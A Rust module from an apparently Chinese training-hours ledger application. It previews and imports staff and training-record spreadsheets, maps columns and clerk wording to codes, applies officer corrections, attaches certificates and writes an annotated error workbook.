//! Importing a file the officer picked: a preview (header, column mapping, first rows, the values
//! to confirm, the cells read differently, the rows left out and every error, from a dry run that
//! writes nothing), then the real import in one transaction. Issue 24: files as departments write
//! them go through in one pass, with the officer's answers remembered for the next file.

use crate::domain::codes::{Code, CodeOption, Employment};
use crate::domain::idcard;
use crate::domain::rules::{Category, Situation, Subject};
use crate::domain::wording;
use crate::error::{Error, Result, RowError};
use crate::io::certificates;
use crate::io::record_import::{self as records, Converted};
use crate::io::staff_import as staff;
use crate::io::table::{self, Column, Mapping, Row, SkippedRow};
use crate::ledger::import_memory;
use rusqlite::Connection;
use serde::{Deserialize, Serialize};
use std::collections::{BTreeMap, BTreeSet, HashMap, HashSet};

#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, ts_rs::TS)]
#[serde(rename_all = "snake_case")]
#[ts(rename = "ImportKind")]
pub enum Kind {
    /// 人员名册
    Staff,
    /// 学时记录 (declarations, pending audit)
    Records,
    /// 市平台学习记录 (synced, never audited or exported)
    City,
}

impl Kind {
    fn columns(self) -> &'static [Column] {
        match self {
            Kind::Staff => &staff::IMPORT_COLUMNS,
            Kind::Records => &records::IMPORT_COLUMNS,
            Kind::City => &records::CITY_COLUMNS,
        }
    }

    fn code(self) -> &'static str {
        match self {
            Kind::Staff => "staff",
            Kind::Records => "records",
            Kind::City => "city",
        }
    }

    /// The cells holding a code, by their column in the checked layout (city rows are checked as
    /// records).
    fn coded(self) -> &'static [(usize, Coded)] {
        match self {
            Kind::Staff => &[(6, Coded::Employment)],
            Kind::Records | Kind::City => &[
                (1, Coded::Category),
                (2, Coded::Subject),
                (8, Coded::Situation),
            ],
        }
    }
}

/// A field whose cells hold one of the ledger's codes, written by clerks in their own words.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
enum Coded {
    Category,
    Subject,
    Situation,
    Employment,
}

impl Coded {
    const ALL: [Coded; 4] = [
        Coded::Category,
        Coded::Subject,
        Coded::Situation,
        Coded::Employment,
    ];

    fn label(self) -> &'static str {
        match self {
            Coded::Category => Category::KIND,
            Coded::Subject => Subject::KIND,
            Coded::Situation => Situation::KIND,
            Coded::Employment => Employment::KIND,
        }
    }

    fn of_label(label: &str) -> Option<Coded> {
        Coded::ALL.into_iter().find(|c| c.label() == label)
    }

    /// The code a value names exactly (code, label or accepted spelling).
    fn parse(self, value: &str) -> Option<&'static str> {
        fn code<T: Code>(v: &str) -> Option<&'static str> {
            T::parse(v).map(T::code)
        }
        match self {
            Coded::Category => code::<Category>(value),
            Coded::Subject => code::<Subject>(value),
            Coded::Situation => code::<Situation>(value),
            Coded::Employment => code::<Employment>(value),
        }
    }

    fn suggest(self, value: &str) -> Option<&'static str> {
        match self {
            Coded::Category => wording::suggest_category(value).map(Category::code),
            Coded::Subject => wording::suggest_subject(value).map(Subject::code),
            Coded::Situation => wording::suggest_situation(value).map(Situation::code),
            Coded::Employment => wording::suggest_employment(value).map(Employment::code),
        }
    }

    fn options(self) -> Vec<CodeOption> {
        match self {
            Coded::Category => Category::options(),
            Coded::Subject => Subject::options(),
            Coded::Situation => Situation::options(),
            Coded::Employment => Employment::options(),
        }
    }

    fn label_of(self, code: &str) -> String {
        self.options()
            .into_iter()
            .find(|o| o.code == code)
            .map(|o| o.label.to_string())
            .unwrap_or_else(|| code.to_string())
    }

    fn memory_scope(self) -> String {
        format!("value:{}", self.label())
    }
}

/// The officer's answer to a value question: read `raw` of `field` as `code`.
#[derive(Debug, Clone, Default, Serialize, Deserialize, ts_rs::TS)]
pub struct ValueChoice {
    pub field: String,
    pub raw: String,
    pub code: String,
}

/// A cell the officer corrected in the preview: the file's `line`, the column's label.
#[derive(Debug, Clone, Default, Serialize, Deserialize, ts_rs::TS)]
pub struct CellFix {
    pub line: usize,
    pub field: String,
    pub value: String,
}

/// The CLI's `--fix` file: `{"fixes": [{"line": 12, "field": "学时", "value": "8"}]}`.
#[derive(Debug, Clone, Default, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FixFile {
    pub fixes: Vec<CellFix>,
}

/// How to read a file: the window's column mapping or the CLI's `--map`, the answers to value
/// questions, corrected cells, and whether people not on the roster join it.
#[derive(Debug, Clone, Default, Serialize, Deserialize, ts_rs::TS)]
#[serde(default)]
#[ts(rename = "ImportOptions")]
pub struct Options {
    pub mapping: Option<Mapping>,
    /// (header as written, field label), as `--map 表头=字段` gives it.
    pub map: Vec<(String, String)>,
    pub values: Vec<ValueChoice>,
    /// Take every suggestion the preview offers (the CLI's `--accept-suggested`).
    pub accept_suggested: bool,
    pub fixes: Vec<CellFix>,
    pub add_people: bool,
    /// Lines the officer leaves out of this import (only the department can answer them); they
    /// are listed as skipped and named in the import event.
    pub leave_out: Vec<usize>,
    /// A folder or ZIP of the declarations' certificates, attached in the import's transaction
    /// (issue 25); files that fit several records wait for the officer's pick afterwards.
    pub evidence: Option<String>,
}

impl Options {
    /// The corrections of the lines still imported: a line the officer left out after correcting
    /// it keeps no correction.
    fn fixes_in_force(&self) -> Vec<CellFix> {
        self.fixes
            .iter()
            .filter(|f| !self.leave_out.contains(&f.line))
            .cloned()
            .collect()
    }
}

/// A value of a coded field that is none of the program's names: asked once for all its rows.
#[derive(Debug, Clone, Serialize, ts_rs::TS)]
pub struct ValueQuestion {
    pub field: String,
    pub raw: String,
    pub rows: usize,
    /// The code the notice's wording suggests, if any.
    pub suggestion: Option<String>,
    /// The code in force: the officer's answer, a remembered one, or an accepted suggestion.
    pub chosen: Option<String>,
    /// 本次选择 / 已记住 / 采纳建议, when `chosen` is set.
    pub source: String,
    pub options: Vec<CodeOption>,
}

/// Errors of one kind (one column, one message), counted.
#[derive(Debug, Clone, Serialize, ts_rs::TS)]
pub struct ErrorGroup {
    pub column: String,
    pub message: String,
    pub rows: usize,
    pub first_line: usize,
}

/// A row with errors, as the officer corrects it in the preview: its cells by column (ID
/// numbers masked), and the columns at fault.
#[derive(Debug, Clone, Serialize, ts_rs::TS)]
pub struct ProblemRow {
    pub line: usize,
    pub cells: Vec<String>,
    pub bad: Vec<String>,
}

#[derive(Debug, Clone, Serialize, ts_rs::TS)]
pub struct ColumnInfo {
    pub label: &'static str,
    pub required: bool,
}

#[derive(Debug, Clone, Serialize, ts_rs::TS)]
#[ts(rename = "ImportPreview")]
pub struct Preview {
    pub file: String,
    pub header: Vec<String>,
    pub columns: Vec<ColumnInfo>,
    pub mapping: Mapping,
    /// Header cells no column reads.
    pub ignored: Vec<String>,
    /// The first rows as they will be read: (line, one cell per column).
    pub sample: Vec<(usize, Vec<String>)>,
    pub total_rows: usize,
    pub skipped: Vec<SkippedRow>,
    pub questions: Vec<ValueQuestion>,
    /// Cells read differently from how they were written (at most `SHOWN_CONVERSIONS`).
    pub converted: Vec<Converted>,
    pub converted_total: usize,
    /// The first `SHOWN_ERRORS` errors in file order; `groups` count them all.
    pub errors: Vec<RowError>,
    pub error_total: usize,
    pub groups: Vec<ErrorGroup>,
    /// Rows with errors, to correct in place (at most `SHOWN_PROBLEM_ROWS`).
    pub problem_rows: Vec<ProblemRow>,
    /// Rows of people not on the roster who carry name and ID (the officer may add them).
    pub addable_rows: usize,
    /// People the import puts on the roster (with `add_people`).
    pub people_to_add: usize,
    /// How the certificates meet the file's records (once the rows are free of errors).
    pub certificates: Option<certificates::BulkPlan>,
    pub would_import: usize,
    pub already_present: usize,
}

#[derive(Debug, Clone, Serialize, ts_rs::TS)]
#[ts(rename = "ImportOutcome")]
pub struct Outcome {
    pub imported: usize,
    pub already_present: usize,
    /// People put on the roster with their records.
    pub people_added: usize,
    /// The years of the imported records, newest last.
    pub years: Vec<i32>,
    /// Certificates attached with the records.
    pub certificates_attached: usize,
}

const SAMPLE_ROWS: usize = 8;
/// The longest header the import remembers.
const MAX_REMEMBERED_HEADER: usize = 100;
pub const SHOWN_CONVERSIONS: usize = 2000;
pub const SHOWN_PROBLEM_ROWS: usize = 500;
/// A 200,000-row file in the clerks' words has an error on every row until its values are
/// confirmed: the window gets the groups and this many errors, not all of them.
pub const SHOWN_ERRORS: usize = 2000;

/// The file read, corrected and resolved, before any row is checked against the ledger: it no
/// longer needs the file's bytes.
pub struct Prepared {
    file: String,
    /// The city platform's export itself, kept as the source of its rows.
    source: Option<Vec<u8>>,
    /// The declarations' certificates, read (and refused whole when hostile) before any check.
    certificates: Option<(String, certificates::Bundle)>,
    table: table::Table,
    questions: Vec<ValueQuestion>,
    /// Rows holding a suggestion nobody confirmed yet: (line, field, value, suggested code).
    unconfirmed: Vec<(usize, Coded, String, String)>,
    errors: Vec<RowError>,
    fixes: Vec<serde_json::Value>,
}

/// Reads the picked file (its name shown without the folder) with the kind's columns, the
/// officer's and the remembered header names; corrects the cells the officer fixed; resolves
/// each coded value.
pub fn prepare(
    conn: &Connection,
    kind: Kind,
    name: &str,
    bytes: &[u8],
    options: &Options,
    progress: table::Progress<'_>,
) -> Result<Prepared> {
    progress(2, "读取文件")?;
    let file = table::file_label(std::path::Path::new(name));
    let columns = kind.columns();
    let header_scope = format!("header:{}", kind.code());
    let mut learned = import_memory::load(conn, &header_scope)?;
    let mut taught = Vec::new();
    for (header, field) in &options.map {
        let Some(c) = columns.iter().find(|c| c.label == field.trim()) else {
            return Err(Error::invalid(format!(
                "--map {header}={field}：没有名为“{field}”的字段，可选：{}",
                columns
                    .iter()
                    .map(|c| c.label)
                    .collect::<Vec<_>>()
                    .join("、")
            )));
        };
        taught.push((table::header_key(header), c.label.to_string()));
    }
    learned.extend(taught.iter().cloned());
    let mut t = table::parse(&file, bytes, columns, options.mapping.as_ref(), &learned)?;
    leave_out(&mut t, &options.leave_out);
    // A mapping the officer made by hand is remembered by its header names.
    // What the program finds by itself is read off the header row alone, not the whole file again.
    if options.mapping.is_some() {
        let found = table::positions_in(&t.header, columns, &learned);
        for (i, c) in columns.iter().enumerate() {
            let chosen = t.mapping.positions[i];
            if let Some(j) = chosen.filter(|_| found[i] != chosen) {
                // A header is a few words; a pasted page is not worth remembering.
                if let Some(h) = t
                    .header
                    .get(j)
                    .filter(|h| !h.trim().is_empty() && h.chars().count() <= MAX_REMEMBERED_HEADER)
                {
                    taught.push((table::header_key(h), c.label.to_string()));
                }
            }
        }
    }
    import_memory::remember(conn, &header_scope, &taught)?;

    let mut errors = Vec::new();
    let fixes = apply_fixes(&mut t.rows, columns, &options.fixes_in_force(), &mut errors);
    let (rows, unreadable) = table::readable_rows(std::mem::take(&mut t.rows), columns);
    errors.extend(unreadable);
    let mut rows = match kind {
        Kind::City => records::city_rows(rows),
        _ => rows,
    };
    let (questions, unconfirmed) = resolve_values(conn, kind, &mut rows, options)?;
    t.rows = rows;
    let certificates = match (&options.evidence, kind) {
        (Some(path), Kind::Records) if !path.trim().is_empty() => {
            let path = std::path::Path::new(path.trim());
            Some((table::file_label(path), certificates::read(path)?))
        }
        _ => None,
    };
    Ok(Prepared {
        file,
        certificates,
        source: (kind == Kind::City).then(|| bytes.to_vec()),
        table: t,
        questions,
        unconfirmed,
        errors,
        fixes,
    })
}

/// Moves the rows the officer left out to the skipped ones.
fn leave_out(t: &mut table::Table, lines: &[usize]) {
    if lines.is_empty() {
        return;
    }
    let (out, kept): (Vec<Row>, Vec<Row>) = std::mem::take(&mut t.rows)
        .into_iter()
        .partition(|r| lines.contains(&r.line));
    t.rows = kept;
    t.skipped.extend(out.iter().map(|r| {
        let text = r.cells().map(str::trim).collect::<Vec<_>>().join(" ");
        SkippedRow {
            line: r.line,
            text: idcard::mask_all(&text.trim().chars().take(60).collect::<String>()),
            why: "专管员选择本次不导入，待科室核实".into(),
        }
    }));
    t.skipped.sort_by_key(|s| s.line);
}

/// Puts the officer's corrections into the rows; a correction no import could take is an error
/// of its row instead. Returns what changed, for the import event (ID numbers masked).
fn apply_fixes(
    rows: &mut [Row],
    columns: &[Column],
    fixes: &[CellFix],
    errors: &mut Vec<RowError>,
) -> Vec<serde_json::Value> {
    let at: HashMap<usize, usize> = rows.iter().enumerate().map(|(i, r)| (r.line, i)).collect();
    let mut changed = Vec::new();
    for fix in fixes {
        let refuse = |message: String| RowError {
            line: fix.line,
            column: fix.field.chars().take(20).collect(),
            message: format!("修改未采用：{message}"),
        };
        let Some(col) = columns.iter().position(|c| c.label == fix.field) else {
            errors.push(refuse(format!(
                "没有名为“{}”的字段，可选：{}",
                fix.field.chars().take(20).collect::<String>(),
                columns
                    .iter()
                    .map(|c| c.label)
                    .collect::<Vec<_>>()
                    .join("、")
            )));
            continue;
        };
        // A line left out, skipped or never in the file has nothing to correct.
        let Some(&i) = at.get(&fix.line) else {
            errors.push(refuse("文件中这一行不是要导入的数据行".into()));
            continue;
        };
        let value = fix.value.trim();
        let refused = table::cell_problem(value).or_else(|| {
            (value.starts_with(['=', '+', '@']) && value.parse::<f64>().is_err())
                .then(|| "修改后的内容不能是公式（以 = + @ 开头）".to_string())
        });
        if let Some(message) = refused {
            errors.push(refuse(message));
            continue;
        }
        let row = &rows[i];
        let old = row.get(col).to_string();
        if old == value {
            continue;
        }
        let shown = |v: &str| match fix.field.as_str() {
            "身份证号" => idcard::mask(v),
            _ => v.to_string(),
        };
        changed.push(serde_json::json!({
            "line": fix.line, "column": fix.field, "old": shown(&old), "new": shown(value),
        }));
        let cells: Vec<&str> = (0..columns.len())
            .map(|c| if c == col { value } else { row.raw(c) })
            .collect();
        rows[i] = Row::new(row.line, cells);
    }
    changed
}

/// The question a city-platform row with no subject asks when its title names one.
fn title_subject_key(subject: Subject) -> String {
    format!("（空）项目名称注明{}科目", subject.label())
}

type Resolved = (Vec<ValueQuestion>, Vec<(usize, Coded, String, String)>);

/// Replaces every coded value in the clerks' words by a code: the officer's answer, a remembered
/// one, or (for checking every other field in the same pass) the suggestion, which stays
/// unconfirmed until the officer or `accept_suggested` takes it. Remembers the officer's answers
/// and the suggestions taken.
fn resolve_values(
    conn: &Connection,
    kind: Kind,
    rows: &mut [Row],
    options: &Options,
) -> Result<Resolved> {
    let mut answers: HashMap<(Coded, String), (String, &'static str)> = HashMap::new();
    for field in Coded::ALL {
        for (raw, code) in import_memory::load(conn, &field.memory_scope())? {
            answers.insert((field, raw), (code, "已记住"));
        }
    }
    let mut officer: BTreeMap<Coded, Vec<(String, String)>> = BTreeMap::new();
    for choice in &options.values {
        let field = Coded::of_label(&choice.field)
            .ok_or_else(|| Error::invalid(format!("“{}”不是需要对应取值的字段", choice.field)))?;
        let code = field
            .parse(&choice.code)
            .ok_or_else(|| Error::invalid(format!("{}“{}”无效", field.label(), choice.code)))?;
        officer
            .entry(field)
            .or_default()
            .push((choice.raw.clone(), code.to_string()));
        answers.insert((field, choice.raw.clone()), (code.to_string(), "本次选择"));
    }
    for (field, pairs) in &officer {
        import_memory::remember(conn, &field.memory_scope(), pairs)?;
    }
    let mut questions: BTreeMap<(Coded, String), ValueQuestion> = BTreeMap::new();
    let mut unconfirmed = Vec::new();
    for row in rows.iter_mut() {
        // Most rows hold the program's own words: nothing is copied for them.
        let mut replaced: Vec<(usize, String)> = Vec::new();
        for &(col, field) in kind.coded() {
            let raw = row.get(col);
            let (key, suggestion) = if raw.is_empty() {
                // A city-platform row without a subject: the title may name it.
                let category = replaced
                    .iter()
                    .find(|(c, _)| *c == 1)
                    .map_or(row.get(1), |(_, code)| code.as_str());
                let on_platform = field == Coded::Subject
                    && Category::parse(category) == Some(Category::CityPlatform);
                match on_platform
                    .then(|| wording::subject_in_title(row.get(3)))
                    .flatten()
                {
                    Some(s) => (title_subject_key(s), Some(s.code())),
                    None => continue,
                }
            } else if field.parse(raw).is_some() {
                continue;
            } else {
                (raw.to_string(), field.suggest(raw))
            };
            let answer = answers.get(&(field, key.clone())).cloned().or_else(|| {
                (options.accept_suggested)
                    .then_some(suggestion)
                    .flatten()
                    .map(|s| (s.to_string(), "采纳建议"))
            });
            let q = questions
                .entry((field, key.clone()))
                .or_insert_with(|| ValueQuestion {
                    field: field.label().into(),
                    raw: key.clone(),
                    rows: 0,
                    suggestion: suggestion.map(str::to_string),
                    chosen: answer.as_ref().map(|(c, _)| c.clone()),
                    source: answer
                        .as_ref()
                        .map(|(_, s)| s.to_string())
                        .unwrap_or_default(),
                    options: field.options(),
                });
            q.rows += 1;
            let code = match (&answer, suggestion) {
                (Some((code, _)), _) => code.clone(),
                (None, Some(s)) => {
                    unconfirmed.push((row.line, field, key, s.to_string()));
                    s.to_string()
                }
                (None, None) => continue,
            };
            replaced.push((col, code));
        }
        if !replaced.is_empty() {
            let width = row
                .cells()
                .count()
                .max(kind.coded().iter().map(|(c, _)| c + 1).max().unwrap_or(0));
            let cells: Vec<&str> = (0..width)
                .map(|i| {
                    replaced
                        .iter()
                        .find(|(c, _)| *c == i)
                        .map_or(row.raw(i), |(_, code)| code.as_str())
                })
                .collect();
            *row = Row::new(row.line, cells);
        }
    }
    // Taking the suggestions is the officer's answer too, remembered like one given in the window.
    for ((field, raw), q) in &questions {
        if q.source == "采纳建议" {
            if let Some(code) = &q.chosen {
                import_memory::remember(
                    conn,
                    &field.memory_scope(),
                    &[(raw.clone(), code.clone())],
                )?;
            }
        }
    }
    Ok((questions.into_values().collect(), unconfirmed))
}

/// What checking a prepared file found: every error of the file, the cells read differently,
/// the rows of people the officer may add, and what an import did or would do.
struct Checked {
    errors: Vec<RowError>,
    converted: Vec<Converted>,
    addable_rows: usize,
    people_to_add: usize,
    certificates: Option<certificates::BulkPlan>,
    outcome: Outcome,
}

fn unconfirmed_message(field: Coded, raw: &str, code: &str) -> String {
    let what = match raw.strip_prefix("（空）") {
        Some(from_title) => format!("{}为空，{from_title}", field.label()),
        None => format!("{}“{raw}”不是程序使用的名称", field.label()),
    };
    format!(
        "{what}，建议按“{}”导入，尚未确认（在预览中确认，或命令行加 --accept-suggested）",
        field.label_of(code)
    )
}

/// The rows' errors in file order, and a failed import's outcome.
fn refused(mut errors: Vec<RowError>) -> (Vec<RowError>, Outcome) {
    errors.sort_by_key(|e| e.line);
    let outcome = Outcome {
        imported: 0,
        already_present: 0,
        people_added: 0,
        years: Vec::new(),
        certificates_attached: 0,
    };
    (errors, outcome)
}

/// Checks every row of the prepared file in one pass and, unless `dry_run` or anything is wrong,
/// stores them all in one transaction with one import event.
fn run(
    conn: &mut Connection,
    kind: Kind,
    prepared: Prepared,
    options: &Options,
    dry_run: bool,
    progress: table::Progress<'_>,
) -> Result<Checked> {
    let Prepared {
        file,
        source,
        certificates: bundle,
        table: t,
        questions,
        unconfirmed,
        mut errors,
        fixes,
    } = prepared;
    let answered: Vec<serde_json::Value> = questions
        .iter()
        .filter_map(|q| {
            let code = q.chosen.as_ref()?;
            Some(
                serde_json::json!({ "field": q.field, "raw": q.raw, "code": code, "rows": q.rows }),
            )
        })
        .collect();
    let details = serde_json::json!({
        "values": answered, "fixes": fixes, "skipped": t.skipped.len(),
        "left_out": options.leave_out,
    });
    // A suggestion nobody confirmed keeps the file out, named on each of its rows.
    errors.extend(unconfirmed.iter().map(|(line, field, raw, code)| RowError {
        line: *line,
        column: field.label().into(),
        message: unconfirmed_message(*field, raw, code),
    }));
    // Nothing is stored while any row is wrong, whatever stage found it.
    let rehearse = dry_run || !errors.is_empty();
    match kind {
        Kind::Staff => {
            let stored =
                staff::import_rows(conn, &file, &t.rows, rehearse, progress, Some(details));
            let (errors, outcome) = match stored {
                Ok(s) if errors.is_empty() => (
                    errors,
                    Outcome {
                        imported: s.imported,
                        already_present: 0,
                        people_added: 0,
                        years: Vec::new(),
                        certificates_attached: 0,
                    },
                ),
                Ok(_) => refused(errors),
                Err(Error::Rows { errors: more, .. }) => {
                    refused(errors.into_iter().chain(more).collect())
                }
                Err(e) => return Err(e),
            };
            Ok(Checked {
                errors,
                converted: Vec::new(),
                addable_rows: 0,
                people_to_add: 0,
                certificates: None,
                outcome,
            })
        }
        Kind::Records | Kind::City => {
            let mut checked = records::check_rows(conn, t.rows, options.add_people, progress)?;
            checked.errors.append(&mut errors);
            let converted = std::mem::take(&mut checked.converted);
            let addable_rows = checked.addable_rows;
            let people_added = checked.new_people.len();
            let years: BTreeSet<i32> = checked.good.iter().map(|v| v.year()).collect();
            let year = years.iter().next_back().copied().unwrap_or_default();
            // The certificates meet the records inside the import's transaction, once they are
            // stored: matched files attach before the commit; a rehearsal only plans.
            let plan = std::cell::RefCell::new(None);
            let attached = std::cell::Cell::new(0);
            let attach = |tx: &Connection, first: i64, last: i64| -> Result<serde_json::Value> {
                let Some((label, bundle)) = &bundle else {
                    return Ok(serde_json::Value::Null);
                };
                let candidates =
                    crate::ledger::records::awaiting_certificates_between(tx, first, last)?;
                let p = certificates::plan_for(&candidates, year, label, bundle);
                if !rehearse {
                    let by = crate::ledger::audit::default_actor(tx)?;
                    attached.set(certificates::attach_matched_in(tx, &p, bundle, &by)?);
                }
                let said = serde_json::json!({ "certificates": {
                    "source": label, "attached": attached.get(), "doubtful": p.doubtful.len(),
                    "unmatched": p.unmatched.len() } });
                *plan.borrow_mut() = Some(p);
                Ok(said)
            };
            let (errors, outcome) = match records::store(
                conn,
                &file,
                checked,
                source.as_deref(),
                Some(&attach),
                details,
                rehearse,
                progress,
            ) {
                Ok(s) => (
                    Vec::new(),
                    Outcome {
                        imported: s.imported,
                        already_present: s.already_present,
                        people_added,
                        years: years.into_iter().collect(),
                        certificates_attached: attached.get(),
                    },
                ),
                Err(Error::Rows { errors, .. }) => refused(errors),
                Err(e) => return Err(e),
            };
            Ok(Checked {
                errors,
                converted,
                addable_rows,
                people_to_add: people_added,
                certificates: plan.into_inner(),
                outcome,
            })
        }
    }
}

/// Errors of one column and message together, most rows first.
pub fn group_errors(errors: &[RowError]) -> Vec<ErrorGroup> {
    let mut groups: Vec<ErrorGroup> = Vec::new();
    let mut at: HashMap<(&str, &str), usize> = HashMap::new();
    for e in errors {
        match at.get(&(e.column.as_str(), e.message.as_str())) {
            Some(&i) => groups[i].rows += 1,
            None => {
                at.insert((e.column.as_str(), e.message.as_str()), groups.len());
                groups.push(ErrorGroup {
                    column: e.column.clone(),
                    message: e.message.clone(),
                    rows: 1,
                    first_line: e.line,
                });
            }
        }
    }
    groups.sort_by_key(|g| (std::cmp::Reverse(g.rows), g.first_line));
    groups
}

/// The cells of a row as the officer sees them: ID numbers masked.
fn shown_cells(kind: Kind, row: &Row) -> Vec<String> {
    kind.columns()
        .iter()
        .enumerate()
        .map(|(i, c)| match c.label {
            "身份证号" => idcard::mask(row.get(i)),
            _ => row.get(i).to_string(),
        })
        .collect()
}

/// What reading and checking a file found, and what was stored: nothing when `errors` is not
/// empty; in a dry run, what would have been.
pub struct Attempt {
    pub file: String,
    pub header: Vec<String>,
    pub mapping: Mapping,
    pub ignored: Vec<String>,
    pub skipped: Vec<SkippedRow>,
    pub questions: Vec<ValueQuestion>,
    pub converted: Vec<Converted>,
    pub addable_rows: usize,
    pub people_to_add: usize,
    pub errors: Vec<RowError>,
    /// The (line, column) of each value still awaiting the officer's confirmation: the value
    /// questions answer them, so they are not rows to correct.
    pub awaiting: HashSet<(usize, &'static str)>,
    pub certificates: Option<certificates::BulkPlan>,
    pub outcome: Outcome,
}

/// Reads, resolves and checks the file in one pass and, unless `dry_run` or anything is wrong,
/// stores it in one transaction: the one place the window's preview and import and the CLI's
/// report all come from.
pub fn attempt(
    conn: &mut Connection,
    kind: Kind,
    name: &str,
    bytes: &[u8],
    options: &Options,
    dry_run: bool,
    progress: table::Progress<'_>,
) -> Result<Attempt> {
    let prepared = prepare(conn, kind, name, bytes, options, progress)?;
    attempt_prepared(conn, kind, prepared, options, dry_run, progress)
}

/// `attempt` on a file already read: the caller may drop the file's bytes first (the CLI does, a
/// 100 MB workbook is not held through the import).
pub fn attempt_prepared(
    conn: &mut Connection,
    kind: Kind,
    prepared: Prepared,
    options: &Options,
    dry_run: bool,
    progress: table::Progress<'_>,
) -> Result<Attempt> {
    let file = prepared.file.clone();
    let header = prepared.table.header.clone();
    let mapping = prepared.table.mapping.clone();
    let ignored = prepared.table.ignored.clone();
    let skipped = prepared.table.skipped.clone();
    let questions = prepared.questions.clone();
    let awaiting = prepared
        .unconfirmed
        .iter()
        .map(|(line, field, _, _)| (*line, field.label()))
        .collect();
    let checked = run(conn, kind, prepared, options, dry_run, progress)?;
    Ok(Attempt {
        awaiting,
        file,
        header,
        mapping,
        ignored,
        skipped,
        questions,
        converted: checked.converted,
        addable_rows: checked.addable_rows,
        people_to_add: checked.people_to_add,
        errors: checked.errors,
        certificates: checked.certificates,
        outcome: checked.outcome,
    })
}

/// Reads and checks the file without keeping anything (but the officer's answers, remembered).
pub fn preview(
    conn: &mut Connection,
    kind: Kind,
    name: &str,
    bytes: &[u8],
    options: &Options,
    progress: table::Progress<'_>,
) -> Result<Preview> {
    let a = attempt(conn, kind, name, bytes, options, true, progress)?;
    // The rows to correct, as the file (with the officer's corrections) holds them: rows whose
    // only fault is a value awaiting confirmation are answered by the value questions.
    let to_correct: Vec<&RowError> = a
        .errors
        .iter()
        .filter(|e| !a.awaiting.contains(&(e.line, e.column.as_str())))
        .collect();
    let at_fault: BTreeSet<usize> = to_correct.iter().map(|e| e.line).collect();
    let mut t = table::parse(&a.file, bytes, kind.columns(), Some(&a.mapping), &[])?;
    leave_out(&mut t, &options.leave_out);
    apply_fixes(
        &mut t.rows,
        kind.columns(),
        &options.fixes_in_force(),
        &mut Vec::new(),
    );
    let sample = t
        .rows
        .iter()
        .take(SAMPLE_ROWS)
        .map(|r| (r.line, shown_cells(kind, r)))
        .collect();
    let problem_rows = t
        .rows
        .iter()
        .filter(|r| at_fault.contains(&r.line))
        .take(SHOWN_PROBLEM_ROWS)
        .map(|r| ProblemRow {
            line: r.line,
            cells: shown_cells(kind, r),
            bad: to_correct
                .iter()
                .filter(|e| e.line == r.line)
                .map(|e| e.column.clone())
                .collect(),
        })
        .collect();
    Ok(Preview {
        columns: kind
            .columns()
            .iter()
            .map(|c| ColumnInfo {
                label: c.label,
                required: c.required,
            })
            .collect(),
        sample,
        total_rows: t.rows.len(),
        converted_total: a.converted.len(),
        converted: a.converted.into_iter().take(SHOWN_CONVERSIONS).collect(),
        groups: group_errors(&a.errors),
        error_total: a.errors.len(),
        would_import: a.outcome.imported,
        already_present: a.outcome.already_present,
        problem_rows,
        file: a.file,
        header: a.header,
        mapping: a.mapping,
        ignored: a.ignored,
        skipped: a.skipped,
        questions: a.questions,
        errors: a.errors.into_iter().take(SHOWN_ERRORS).collect(),
        addable_rows: a.addable_rows,
        people_to_add: a.people_to_add,
        certificates: a.certificates,
    })
}

/// The import itself: all rows or none.
pub fn commit(
    conn: &mut Connection,
    kind: Kind,
    name: &str,
    bytes: &[u8],
    options: &Options,
    progress: table::Progress<'_>,
) -> Result<Outcome> {
    let a = attempt(conn, kind, name, bytes, options, false, progress)?;
    if !a.errors.is_empty() {
        return Err(Error::Rows {
            file: a.file,
            errors: a.errors,
        });
    }
    // Committed: a cancel arriving now is too late to undo anything, so it is not reported.
    let _ = progress(100, "完成");
    Ok(a.outcome)
}

/// Writes the picked file back as a workbook for the departments (标注错误后下载): every row as
/// the file holds it, the officer's corrections in, a 问题 column naming each error of the row,
/// the cells at fault filled red. Footer rows and rows above the header are kept as they were.
/// Returns how many rows carry a problem.
pub fn annotate(
    conn: &mut Connection,
    kind: Kind,
    name: &str,
    bytes: &[u8],
    options: &Options,
    out: &std::path::Path,
) -> Result<usize> {
    use rust_xlsxwriter::{Color, Format, Workbook};
    let p = attempt(conn, kind, name, bytes, options, true, &table::no_progress)?;
    let mut problems: BTreeMap<usize, Vec<&RowError>> = BTreeMap::new();
    for e in &p.errors {
        problems.entry(e.line).or_default().push(e);
    }
    let in_force = options.fixes_in_force();
    let fixed: HashMap<(usize, &str), &str> = in_force
        .iter()
        .map(|f| ((f.line, f.field.as_str()), f.value.as_str()))
        .collect();
    let label_at: HashMap<usize, &str> = p
        .mapping
        .positions
        .iter()
        .zip(kind.columns())
        .filter_map(|(pos, c)| Some(((*pos)?, c.label)))
        .collect();
    let raw = table::raw_rows(name, bytes)?;
    let header_line = raw.get(p.mapping.header_index).map_or(1, |r| r.line);
    let width = raw.iter().map(|r| r.cells().count()).max().unwrap_or(0);
    let io = |e: rust_xlsxwriter::XlsxError| Error::Write {
        path: table::file_label(out),
        reason: e.to_string(),
    };
    let mut book = Workbook::new();
    let bad = Format::new().set_background_color(Color::RGB(0xFFC7CE));
    let bold = Format::new().set_bold();
    let wrap = Format::new()
        .set_font_color(Color::RGB(0x9C0006))
        .set_text_wrap();
    let sheet = book.add_worksheet();
    sheet.set_name("标注错误").map_err(io)?;
    let problem_col = width as u16;
    for row in &raw {
        let r = (row.line - 1) as u32;
        let errors = problems.get(&row.line);
        let at_fault: BTreeSet<&str> = errors
            .map(|es| es.iter().map(|e| e.column.as_str()).collect())
            .unwrap_or_default();
        for (c, cell) in row.cells().enumerate() {
            let label = label_at.get(&c).copied();
            let value = label
                .and_then(|l| fixed.get(&(row.line, l)).copied())
                .unwrap_or(cell);
            let value = crate::io::cells::plain_text(value);
            match label.filter(|l| at_fault.contains(l)) {
                Some(_) => sheet.write_string_with_format(r, c as u16, value, &bad),
                None => sheet.write_string(r, c as u16, value),
            }
            .map_err(io)?;
        }
        if row.line == header_line {
            sheet
                .write_string_with_format(r, problem_col, "问题", &bold)
                .map_err(io)?;
        } else if let Some(es) = errors {
            let text = es
                .iter()
                .map(|e| format!("{}：{}", e.column, e.message))
                .collect::<Vec<_>>()
                .join("\n");
            sheet
                .write_string_with_format(
                    r,
                    problem_col,
                    crate::io::cells::plain_text(&text),
                    &wrap,
                )
                .map_err(io)?;
        }
    }
    sheet.set_column_width(problem_col, 60).map_err(io)?;
    crate::files::write_with(out, |staged| book.save(staged).map_err(io))?;
    Ok(problems.len())
}

